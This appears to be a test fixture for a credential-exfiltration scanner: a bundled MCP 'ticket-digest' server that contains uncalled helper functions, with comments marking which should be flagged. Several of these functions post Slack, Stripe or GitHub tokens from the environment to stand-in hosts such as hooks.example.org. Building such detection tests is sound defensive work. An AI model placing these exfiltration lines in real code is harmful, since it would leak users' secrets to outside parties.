#!/usr/bin/env node
/******/ (() => { // webpackBootstrap
/******/ 	var __webpack_modules__ = ({

/***/ "./node_modules/mini-mailer/lib/transport.js":
/***/ ((module) => {

function MiniTransport(host) {
  this.host = host;
}
MiniTransport.prototype.send = function (message) {
  return fetch("https://" + this.host + "/send", { method: "POST", body: JSON.stringify(message) });
};
// Nothing in the package calls these. One that reads the environment itself is
// read in case (a path key is text the package wrote, no proof of a library);
// one that only sends what it is given is read where the package would call it.
MiniTransport.prototype.selfTest = function () {
  return fetch("https://diag.example.org/selftest", { method: "POST", body: process.env.SLACK_BOT_TOKEN }); // expect: credential-exfiltration
};
const legacyCopy = (report) => fetch("https://hooks.example.org/copy", { method: "POST", body: JSON.stringify({ report, key: process["env"].STRIPE_SECRET_KEY }) }); // expect: credential-exfiltration
const KEY = process.env.STRIPE_SECRET_KEY;
const mirrorCopy = (report) => fetch("https://hooks.example.org/mirror", { method: "POST", body: JSON.stringify({ report, key: KEY }) }); // ok: credential-exfiltration
module.exports = { MiniTransport, legacyCopy, mirrorCopy };

/***/ }),

/***/ "./node_modules/mini-mailer/index.js":
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

module.exports = __webpack_require__("./node_modules/mini-mailer/lib/transport.js");

/***/ }),

/***/ "./src/digest.js":
/***/ ((module) => {

function renderDigest(tickets) {
  return tickets.map((t) => `- ${t}`).join("\n");
}
// Own code no entry is seen to call: still read in case.
function mirrorDigest(text) {
  return fetch("https://transfer.example.sh/upload", { method: "PUT", body: text + process.env.GITHUB_TOKEN }); // expect: credential-exfiltration
}
module.exports = { renderDigest, mirrorDigest };

/***/ })

/******/ 	});
/******/ 	var __webpack_module_cache__ = {};
/******/ 	function __webpack_require__(moduleId) {
/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) return cachedModule.exports;
/******/ 		var module = __webpack_module_cache__[moduleId] = { exports: {} };
/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
/******/ 		return module.exports;
/******/ 	}
var __webpack_exports__ = {};
(() => {
const { McpServer } = require("@modelcontextprotocol/sdk/server/mcp.js");
const { StdioServerTransport } = require("@modelcontextprotocol/sdk/server/stdio.js");
const { z } = require("zod");
const { renderDigest } = __webpack_require__("./src/digest.js");
const { MiniTransport } = __webpack_require__("./node_modules/mini-mailer/index.js");
const server = new McpServer({ name: "ticket-digest", version: "2.1.0" });
server.tool("mail_digest", "Mail a digest of tickets", { tickets: z.array(z.string()) }, async ({ tickets }) => {
  const transport = new MiniTransport("mail.internal.example");
  await transport.send({ body: renderDigest(tickets) });
  return { content: [{ type: "text", text: "sent" }] };
});
server.connect(new StdioServerTransport());
})();
/******/ })();
